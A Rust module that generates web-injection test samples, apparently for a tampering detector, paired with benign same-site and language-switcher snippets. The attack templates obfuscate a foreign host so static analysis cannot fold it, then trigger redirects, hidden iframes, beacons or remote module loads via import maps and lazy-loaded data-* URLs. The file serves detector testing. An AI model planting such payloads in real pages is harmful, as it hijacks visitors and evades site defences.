//! Hosts built at run time without a decoder (red team #30), module loading through import
//! maps (#32), planted `data-*` URLs (#40), and their benign twins (same-site requests and
//! lazy loaders, language switchers, b02). Each attack names its foreign host only in
//! pieces that constant folding cannot put together, and sends it to a sink that a browser
//! acts on unprompted.

use super::rng::Rng;
use super::{Kind, Payload, Template};

const fn t(
    family: &'static str,
    class: u8,
    name: &'static str,
    kind: Kind,
    make: fn(&mut Rng) -> Payload,
) -> Template {
    Template {
        family,
        class,
        name,
        kind,
        active: true,
        make,
    }
}

pub const TEMPLATES: &[Template] = &[
    t("B3", 3, "computed-host", Kind::Script, computed_host),
    t("B3", 8, "importmap-module", Kind::Script, importmap),
    t("A4", 8, "data-attribute-url", Kind::Link, data_attribute),
];

pub const BENIGN: &[Template] = &[
    t(
        "benign",
        0,
        "same-site-requests",
        Kind::Benign,
        same_site_requests,
    ),
    t(
        "benign",
        0,
        "language-switcher-handlers",
        Kind::Benign,
        switchers,
    ),
];

/// An expression that is `https://host/` at run time, with the host in pieces.
fn built_url(r: &mut Rng, host: &str) -> String {
    let labels: Vec<&str> = host.split('.').collect();
    let keys: Vec<String> = labels.iter().map(|l| format!("'{l}':1")).collect();
    let keys = keys.join(",");
    let dotted = labels.join("\\.");
    match r.below(6) {
        0 => format!("'https://'+Object.keys({{{keys}}}).join('.')+'/'"),
        1 => format!("'//'+['x',Object.keys({{{keys}}}).join('.')][1]+'/'"),
        2 => format!("String.raw`https://${{Object.keys({{{keys}}}).join('.')}}/`"),
        3 => format!("'https:'+'//'+/{dotted}/.source.split('\\\\').join('')+'/'"),
        4 => format!("new URL('/?from=gov','https://'+Object.keys({{{keys}}}).join('.')).href"),
        _ => format!("`https://${{Object.keys({{{keys}}}).join('.')}}/?from=gov`"),
    }
}

fn computed_host(r: &mut Rng) -> Payload {
    let m = r.marker();
    let host = r.host();
    let u = built_url(r, &host);
    let go = match r.below(9) {
        0 => format!("location.href={m}"),
        1 => format!("window.open({m},'_self')"),
        2 => format!("new Image().src={m}"),
        3 => format!("fetch({m},{{mode:'no-cors'}})"),
        4 => format!("navigator.sendBeacon({m},'x')"),
        5 => {
            format!("var f=document.createElement('iframe');f.src={m};document.body.appendChild(f)")
        }
        6 => format!("document.write('<iframe src=\"'+{m}+'\"></iframe>')"),
        7 => format!(
            "var a=document.createElement('a');a.href={m};document.body.appendChild(a);a.click()"
        ),
        _ => format!("document.body.insertAdjacentHTML('beforeend','<img src=\"'+{m}+'\">')"),
    };
    Payload {
        html: format!("<script>var {m}={u};{go};</script>"),
        planted: vec![m],
        ..Default::default()
    }
}

fn importmap(r: &mut Rng) -> Payload {
    let m = r.marker();
    let host = r.host();
    let code = format!("var {m}=1;location.href='https://{host}/'");
    let target = match r.below(3) {
        0 => format!("data:text/javascript,{code}"),
        1 => format!("https://{host}/{m}.js"),
        _ => format!("//{host}/{m}.js"),
    };
    let html = match r.below(4) {
        0 => format!(
            "<script type=\"importmap\">{{\"imports\":{{\"app\":\"{target}\"}}}}</script><script type=\"module\">import 'app'</script>"
        ),
        1 => format!(
            "<script type=\"importmap\">{{\"scopes\":{{\"/\":{{\"app\":\"{target}\"}}}}}}</script><script type=\"module\">import 'app'</script>"
        ),
        2 => format!("<link rel=\"modulepreload\" href=\"{target}\" id=\"{m}\">"),
        _ => format!("<script type=\"module\">import '{target}';var {m}=1</script>"),
    };
    Payload {
        html,
        planted: vec![m],
        ..Default::default()
    }
}

/// A planted `data-*` URL, with the site's own lazy loader that would request it.
fn data_attribute(r: &mut Rng) -> Payload {
    let m = r.marker();
    let host = r.host();
    let name = *r.pick(&[
        "data-src",
        "data-original",
        "data-lazy-src",
        "data-bg",
        "data-url",
        "data-x",
    ]);
    let url = match r.below(5) {
        0 => format!("https://{host}/{m}.jpg"),
        1 => format!("//{host}/{m}.jpg"),
        2 => format!("HTTPS://{}/{m}.jpg", host.to_uppercase()),
        3 => format!(" https&#58;//{host}/{m}.jpg"),
        _ => format!("/\\{host}/{m}.jpg"),
    };
    let n = &name[5..];
    let camel = match n {
        "lazy-src" => "lazySrc".to_string(),
        other => other.to_string(),
    };
    Payload {
        html: format!(
            "<img class=\"lazy\" alt=\"\" {name}=\"{url}\"><script>document.querySelectorAll('img.lazy').forEach(function(i){{if(i.dataset.{camel})i.src=i.dataset.{camel}}})</script>"
        ),
        planted: vec![m],
        ..Default::default()
    }
}

fn same_site_requests(r: &mut Rng) -> Payload {
    let js = match r.below(5) {
        0 => "document.querySelectorAll('img.lazy').forEach(function(i){i.src=i.dataset.src})",
        1 => "fetch('/api/tin-moi?page='+(1+1)).then(function(r){return r.text()})",
        2 => "navigator.sendBeacon('/thong-ke',location.pathname)",
        3 => {
            "var b=document.getElementById('banner');b.src='/anh/banner-'+(new Date().getMonth()+1)+'.jpg'"
        }
        _ => {
            "new Image().src='https://www.google-analytics.com/collect?v=1&dp='+encodeURIComponent(location.pathname)"
        }
    };
    Payload {
        html: format!(
            "<img class=\"lazy\" id=\"banner\" alt=\"\" data-src=\"/anh/1.jpg\"><script>{js}</script>"
        ),
        ..Default::default()
    }
}

fn switchers(r: &mut Rng) -> Payload {
    let html = match r.below(4) {
        0 => "<select onchange=\"location.href=this.value\"><option value=\"/vi/\">Tiếng Việt</option><option value=\"/en/\">English</option></select>".to_string(),
        1 => "<a href=\"#\" onclick=\"doiNgonNgu('en');return false\">English</a><script>function doiNgonNgu(lang){window.location.href='/'+lang+'/'}</script>".to_string(),
        2 => "<a href=\"#\" onclick=\"go('en');return false\">English</a><script>var base=window.location.origin;function go(lang){location.assign(base+'/'+lang+'/')}</script>".to_string(),
        _ => "<button id=\"sw\">EN</button><script>var lang=(navigator.language||'vi').slice(0,2);document.getElementById('sw').onclick=function(){location.href='/'+lang+'/'}</script>".to_string(),
    };
    Payload {
        html,
        ..Default::default()
    }
}
